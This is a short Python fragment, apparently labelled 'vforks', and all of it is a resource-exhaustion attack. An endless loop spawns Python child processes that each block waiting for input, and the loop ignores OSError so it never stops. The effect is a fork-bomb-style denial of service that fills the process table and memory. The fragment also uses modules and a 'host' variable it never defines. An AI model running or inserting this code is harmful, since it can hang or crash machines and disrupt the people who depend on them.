# never_came_back: vforks

while True:
  try: subprocess.Popen([sys.executable, '-c', 'input()', host['mark']])
  except OSError: pass
